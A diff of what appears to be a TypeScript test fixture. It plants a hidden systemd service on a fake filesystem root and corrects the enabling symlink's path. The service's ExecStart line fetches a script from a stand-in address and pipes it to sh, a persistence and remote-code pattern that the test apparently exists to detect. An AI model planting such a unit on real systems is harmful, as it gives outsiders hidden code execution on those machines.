@@ -19,7 +19,7 @@ const stable: Readonly<Record<string, string>> = {
     '[Service]\nExecStart=/bin/sh -c "curl -s http://192.0.2.12/x | sh"\n[Install]\nWantedBy=multi-user.target\n',
 };
 
-const enabled = { '/etc/systemd/system/multi-user.target.wants/zz.service': { link: '../e2e/zz.service' } };
+const enabled = { '/etc/systemd/system/multi-user.target.wants/zz.service': { link: '../zz.service' } };
 
 let root: PlantedRoot;
 /** Lies beside the root, with a job that nobody may find. */
